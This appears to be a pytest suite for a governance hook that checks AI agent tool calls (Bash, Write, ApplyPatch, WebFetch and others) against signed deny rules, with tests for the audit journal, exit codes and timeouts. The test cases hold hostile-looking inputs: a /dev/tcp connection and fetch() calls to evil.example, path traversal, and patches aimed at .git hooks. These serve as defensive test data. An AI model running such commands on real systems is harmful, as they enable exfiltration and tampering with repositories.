"""The PreToolUse hook: both dialects, every tool, and exit 2 for whatever goes wrong."""

from __future__ import annotations

import json
import resource
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from coven.governance import hook, hook_journal, snapshot
from coven.governance.actions import MalformedAction, action_json
from coven.governance.hook_event import read_event
from coven.governance.hook_settings import Hook
from coven.governance.policy import build_policy
from coven.governance.rules import Rule
from coven.governance.signing import PublicKeys, Signer

SIGNER = Signer.from_seed(b"\7" * 32)
SESSION = "f" * 32


def rule(identity: str, kind: str, matcher: dict[str, Any], severity: str = "refuse") -> Rule:
    return Rule.read(
        {"id": identity, "kind": kind, "matcher": matcher, "severity": severity, "reason": "no"}
    )


RULES = [
    rule("X1", "filesystem_write", {"glob": "/forbidden/**"}),
    rule("X2", "network_request", {"host": "evil.example"}),
    rule("X3", "bash", {"argv_prefix": ["git"], "argv_contains_all": ["--force"]}, "escalate"),
    rule("X4", "bash", {"argv_prefix": ["make"]}, "warn"),
    rule("X5", "custom", {"kind": "tool_call"}),
    rule("X6", "filesystem_write", {"glob": "**/.git/**"}),
]  # fmt: skip


def sealed(workspace: str, rules: list[Rule] = RULES, signer: Signer = SIGNER) -> bytes:
    found = snapshot.of_policy(
        build_policy(rules, epoch=7),
        namespace="installation/1/repo/o/r",
        task_id="t",
        workspace=workspace,
        home="/home/u",
        templates={},
    )
    return snapshot.seal(found, signer)


class Room:
    """A hook with its files."""

    def __init__(self, folder: Path) -> None:
        self.tree = folder / "tree"
        self.tree.mkdir()
        self.hook = Hook(folder / "policy.json", folder / "verdicts", SIGNER.public)
        self.hook.snapshot.write_bytes(sealed(str(self.tree)))
        self.hook.journal.write_bytes(hook_journal.opening(SESSION))

    def ask(self, event: object) -> str | None:
        data = event if isinstance(event, bytes) else json.dumps(event).encode()
        return hook.check(
            data, str(self.hook.snapshot), str(self.hook.journal), SIGNER.public.hex(),
            str(self.tree),
        )  # fmt: skip

    def call(self, tool: str, **given: Any) -> str | None:
        return self.ask({"event": "PreToolUse", "tool_name": tool, "tool_input": given})

    def run(self, data: bytes) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(  # noqa: TID251 - as a harness runs it
            ["/bin/sh", "-c", self.hook.command], input=data, capture_output=True, check=False,
            cwd=self.tree, env={"PATH": "/usr/bin:/bin"}, timeout=30,
        )  # fmt: skip

    def journal(self) -> hook_journal.Reading:
        return hook_journal.read(self.hook.journal.read_bytes(), SESSION)


@pytest.fixture
def room(tmp_path: Path) -> Room:
    return Room(tmp_path)


PATCH = "--- a/src/x.py\n+++ b/src/x.py\n@@ -1 +1 @@\n-a\n+b\n"
CALLS: list[tuple[str, dict[str, Any], str | None]] = [
    ("Bash", {"command": "ls"}, None),
    ("Bash", {"command": "echo x > /forbidden/y"}, "X1"),
    ("Bash", {"command": "git push -f"}, "X3"),
    ("Bash", {"command": "make test"}, None),
    ("Bash", {}, "governance:malformed_event"),
    ("Bash", {"command": 7}, "governance:malformed_event"),
    ("Bash", {"command": "echo \u0000"}, "governance:malformed_event"),
    ("PowerShell", {"command": "ls"}, None),
    ("REPL", {"language": "python", "code": "open('http://evil.example/')"}, "X2"),
    ("REPL", {"language": "JavaScript", "code": "fetch('http://evil.example/')"}, "X2"),
    ("REPL", {"code": "echo x > /forbidden/y"}, "X1"),
    ("REPL", {"code": "echo x > y"}, "X1"),
    ("REPL", {"code": "ls"}, None),
    ("REPL", {"code": "ls", "language": "perl"}, "governance:malformed_event"),
    ("monitor", {"command": "cat /dev/tcp/evil.example/80 < /dev/tcp/evil.example/80"}, "X2"),
    ("Write", {"file_path": "a.txt", "content": "x"}, None),
    ("Write", {"file_path": "/forbidden/a", "content": "x"}, "X1"),
    ("Write", {"file_path": "../../../../../../../../../forbidden/a", "content": "x"}, "X1"),
    ("Write", {"content": "x"}, "governance:malformed_event"),
    ("Edit", {"file_path": ".git/hooks/pre-commit", "old_string": "a"}, "X6"),
    ("MultiEdit", {"file_path": "/forbidden/a", "edits": [{}]}, "X1"),
    ("NotebookEdit", {"notebook_path": "/forbidden/a.ipynb"}, "X1"),
    ("BatchEdit", {"edits": [{"file_path": "a"}, {"file_path": "/forbidden/b"}]}, "X1"),
    ("BatchEdit", {"edits": [{"file_path": "a"}, "b"]}, "governance:malformed_event"),
    ("ApplyPatch", {"patch": PATCH}, None),
    ("ApplyPatch", {"patch": PATCH.replace("b/src/x.py", "b/.git/config")}, "X6"),
    ("ApplyPatch", {"patch": "*** Begin Patch\n*** Add File: /forbidden/x\n+a\n"}, "X1"),
    ("ApplyPatch", {"patch": PATCH.replace("b/src/x.py", "b//forbidden/x")}, "X1"),
    ("ApplyPatch", {"patch": PATCH.replace("b/src/x.py", "b/b/b//forbidden/x")}, "X1"),
    ("ApplyPatch", {"patch": PATCH.replace("b/src/x.py", "b/.git\t/hooks/../../.git/x")}, "X6"),
    ("ApplyPatch", {"patch": "nothing"}, "governance:malformed_event"),
    ("WebFetch", {"url": "https://good.example/x"}, None),
    ("WebFetch", {"url": "https://EVIL.example./x"}, "X2"),
    ("WebFetch", {"url": "evil"}, "governance:malformed_event"),
    ("WebSearch", {"query": "x"}, "X5"),
    ("mcp__server__tool", {"a": 1}, "X5"),
    ("SomethingNew", {}, "X5"),
    ("Read", {"file_path": "/forbidden/a"}, None),
    ("Grep", {"pattern": "x"}, None),
    ("GovernanceCanary", {}, "X5"),
]


@pytest.mark.parametrize(("tool", "given", "expected"), CALLS, ids=lambda value: str(value)[:40])
def test_every_tool_is_judged(
    room: Room, tool: str, given: dict[str, Any], expected: str | None
) -> None:
    refused = room.call(tool, **given)
    assert (refused or "").partition(": ")[0] == (expected or "")
    assert len(room.journal().entries) == 1
    assert room.journal().problem is None


def test_without_other_rules_the_canary_is_still_refused(room: Room) -> None:
    room.hook.snapshot.write_bytes(sealed(str(room.tree), []))
    assert (room.call(snapshot.CANARY_TOOL) or "").startswith("canary:")
    assert room.call("SomethingNew") is None


def bash(room: Room, *commands: str, **more: Any) -> list[str]:
    """What the last of these calls was refused for, one after another."""
    asked = [{"event": "PreToolUse", "tool_name": "Bash", **more, "tool_input": {"command": one}}
             for one in commands]  # fmt: skip
    return [(room.ask(event) or "").partition(":")[0] for event in asked]


@pytest.mark.parametrize(
    "before",
    ["cd /forbidden", "cd /; cd forbidden", "pushd /forbidden", "cd /forbidden && false",
     'cd "$SOMEWHERE"', "eval 'cd /forbidden'", "builtin cd /forbidden",
     "cd /forb*"],
)  # fmt: skip
def test_a_shell_that_keeps_its_folder_is_followed(room: Room, before: str) -> None:
    assert bash(room, "echo x > y", before, "ls", "echo x > y") == ["", "", "", "X1"]


@pytest.mark.parametrize("before", ["cd sub", "(cd /forbidden)", "cd sub && cd ..", "X=1 ls"])
def test_a_shell_that_stays_inside_may_write(room: Room, before: str) -> None:
    assert bash(room, before, "echo x > y") == ["", ""]


def test_a_shell_whose_home_was_changed_is_followed(room: Room) -> None:
    assert bash(room, "echo x > ~/y", "export HOME=/forbidden", "echo x > ~/y") == ["", "", "X1"]


def test_a_malformed_call_forgets_nothing(room: Room) -> None:
    bash(room, "cd /forbidden")
    room.ask(b"{}")
    assert bash(room, "echo x > y") == ["X1"]


def test_a_harness_that_says_where_it_stands_is_believed(room: Room) -> None:
    bash(room, "cd /forbidden")
    assert bash(room, "echo x > y", cwd=str(room.tree)) == [""]
    assert bash(room, "echo x > y", cwd="/forbidden/z") == ["X1"]


@pytest.mark.parametrize("dialect", [{"event": "PreToolUse"}, {"hook_event_name": "PreToolUse"}])
def test_both_dialects_are_read(dialect: dict[str, str]) -> None:
    value = {**dialect, "tool_name": "Write", "tool_input": {"file_path": "a"}, "cwd": "/w"}
    [action] = read_event(json.dumps(value).encode(), "/elsewhere").actions
    assert action_json(action) == {"kind": "filesystem_write", "path": "/w/a", "op": "modify"}


@pytest.mark.parametrize(
    "data",
    [
        b"", b"{", b"[]", b"null", b'"x"', b"\xff", b"{}", b'{"event":"PostToolUse"}',
        b'{"event":"PreToolUse","event":"PreToolUse","tool_name":"Read","tool_input":{}}',
        b'{"event":"PreToolUse","tool_name":"Read"}', b'{"event":"PreToolUse","tool_input":{}}',
        b'{"event":"PreToolUse","tool_name":"","tool_input":{}}',
        b'{"event":"PreToolUse","tool_name":"Bash","tool_input":"ls"}',
        b'{"event":"PreToolUse","tool_name":"Read","tool_input":{},"cwd":"relative"}',
        b'{"event":"PreToolUse","hook_event_name":"Stop","tool_name":"Read","tool_input":{}}',
        b'{"event":"PreToolUse","tool_name":"Read","tool_input":{"a":NaN}}', b"[" * 100_000,
    ],
    ids=lambda data: repr(data[:60]),
)  # fmt: skip
def test_an_event_that_is_not_exact_is_refused(room: Room, data: bytes) -> None:
    with pytest.raises(MalformedAction):
        read_event(data, "/w")
    assert (room.ask(data) or "").startswith("governance:malformed_event")


def test_an_event_that_is_too_long_is_refused(room: Room) -> None:
    assert "more than 4 MiB" in (room.ask(b" " * (4 * 2**20 + 1)) or "")


def test_a_policy_of_somebody_else_is_refused(room: Room) -> None:
    room.hook.snapshot.write_bytes(sealed(str(room.tree), signer=Signer.from_seed(b"\1" * 32)))
    assert "not signed by its worker" in (room.call("Read") or "")


@pytest.mark.parametrize("member", ["epoch", "rules", "namespace", "workspace", "defaults"])
def test_a_changed_policy_is_refused(room: Room, member: str) -> None:
    body = json.loads(room.hook.snapshot.read_bytes())
    body[member] = {"epoch": 8, "rules": [], "defaults": {"bash": "allow"}}.get(member, "x")
    with pytest.raises(snapshot.SnapshotUnusable):
        snapshot.unseal(json.dumps(body).encode(), PublicKeys([SIGNER.public]))


def test_a_policy_is_read_back_as_it_was(room: Room) -> None:
    found = snapshot.unseal(room.hook.snapshot.read_bytes(), PublicKeys([SIGNER.public]))
    assert (found.epoch, [one.id for one in found.rules][:2]) == (7, ["X1", "X2"])
    assert found.scope(None).base == str(room.tree)


def test_rules_of_others_and_of_the_adapter_stay_out() -> None:
    others = [
        Rule.read({"id": "Y1", "kind": "bash", "matcher": {"command_substring": "x"},
                   "severity": "refuse", "reason": "r", "namespace": "installation/2"}),
        rule("Y2", "process_spawn", {"binary": "x", "origin": "adapter"}),
    ]  # fmt: skip
    found = snapshot.unseal(sealed("/w", others), PublicKeys([SIGNER.public]))
    assert [one.id for one in found.rules] == ["canary"]


@pytest.mark.parametrize("damage", ["absent", "empty", "cut", "link", "folder"])
def test_without_a_journal_nothing_is_allowed(room: Room, damage: str) -> None:
    path = room.hook.journal
    path.unlink()
    if damage == "empty":
        path.write_bytes(b"")
    elif damage == "cut":
        path.write_bytes(hook_journal.opening(SESSION)[:-5])
    elif damage == "link":
        (path.parent / "other").write_bytes(hook_journal.opening(SESSION))
        path.symlink_to(path.parent / "other")
    elif damage == "folder":
        path.mkdir()
    assert (room.call("Read") or "").startswith("governance:audit_unavailable")


@pytest.mark.parametrize("what", ["line removed", "line changed", "end cut", "opening changed"])
def test_a_damaged_journal_is_noticed(room: Room, what: str) -> None:
    for name in ("a", "b", "c"):
        room.call("Write", file_path=name)
    assert [entry["tool"] for entry in room.journal().entries] == ["Write"] * 3
    lines = room.hook.journal.read_bytes().split(b"\n")
    if what == "line removed":
        del lines[2]
    elif what == "line changed":
        lines[1] = lines[1].replace(b"Write", b"Wrote")
    elif what == "end cut":
        lines[-2] = lines[-2][:-3]
        del lines[-1]
    else:
        lines[0] = lines[0].replace(b"f", b"e")
    room.hook.journal.write_bytes(b"\n".join(lines))
    assert room.journal().problem is not None


def test_the_command_speaks_both_languages(room: Room) -> None:
    allowed = room.run(b'{"event":"PreToolUse","tool_name":"Read","tool_input":{}}')
    assert (allowed.returncode, allowed.stdout, allowed.stderr) == (0, b"", b"")
    event = {
        "event": "PreToolUse",
        "tool_name": "Write",
        "tool_input": {"file_path": "/forbidden/x"},
    }
    refused = room.run(json.dumps(event).encode())
    assert (refused.returncode, refused.stderr) == (2, b"X1: no\n")
    said = json.loads(refused.stdout)["hookSpecificOutput"]
    assert (said["permissionDecision"], said["permissionDecisionReason"]) == ("deny", "X1: no")


def test_whatever_goes_wrong_is_exit_2(room: Room) -> None:
    assert room.run(b"").returncode == 2
    room.hook.snapshot.unlink()
    assert room.run(b"{}").returncode == 2
    broken = Hook(room.hook.snapshot, room.hook.journal, SIGNER.public, python="/nowhere/python")
    missing = subprocess.run(  # noqa: TID251 - as a harness runs it
        ["/bin/sh", "-c", broken.command], capture_output=True, check=False
    )
    assert missing.returncode == 2
    wrong = subprocess.run(  # noqa: TID251 - as a harness runs it
        [sys.executable, "-I", "-m", "coven.governance.hook"], capture_output=True, check=False
    )
    assert wrong.returncode == 2


def test_the_deadline_is_exit_2(room: Room) -> None:
    code = (
        "import coven.governance.hook as h, time; h.DEADLINE_SECS = 0.2\n"
        "h.check = lambda *a: time.sleep(9)\n"
        "raise SystemExit(h.main(['--snapshot', 'x', '--journal', 'x', '--key', '']))"
    )
    done = subprocess.run(  # noqa: TID251 - as a harness runs it
        [sys.executable, "-c", code], input=b"{}", capture_output=True, check=False
    )
    assert (done.returncode, done.stderr[:18]) == (2, b"governance:timeout")


def test_the_canary_ends_with_2_only_when_the_hook_is_at_work(room: Room) -> None:
    def canary(hook: Hook) -> int:
        return subprocess.run(  # noqa: TID251 - as the worker runs it
            ["/bin/sh", "-c", hook.canary], capture_output=True, check=False, cwd=room.tree
        ).returncode

    assert canary(room.hook) == 2
    assert len(room.journal().entries) == 2
    assert canary(Hook(room.tree / "no", room.hook.journal, SIGNER.public)) == 1
    assert canary(Hook(room.hook.snapshot, room.tree / "no", SIGNER.public)) == 1
    assert canary(Hook(room.hook.snapshot, room.hook.journal, SIGNER.public, "/no/python")) == 1


def test_it_answers_quickly(room: Room) -> None:
    event = json.dumps(
        {"event": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls && make"}}
    ).encode()
    best = 9.0
    for _ in range(5):  # processor time: other work on this machine does not count
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        assert room.run(event).returncode == 0
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        best = min(best, sum(after[:2]) - sum(before[:2]))
    assert best < 0.25


def test_the_settings_install_the_hook_for_every_tool(room: Room) -> None:
    ours = json.loads(room.hook.coven_code)["config"]["hooks"]["PreToolUse"]
    assert ours == [{"command": room.hook.command, "blocking": True}]
    [entry] = json.loads(room.hook.claude_code)["hooks"]["PreToolUse"]
    assert entry["matcher"] == "*"
    assert entry["hooks"][0]["onFailure"] == "block"
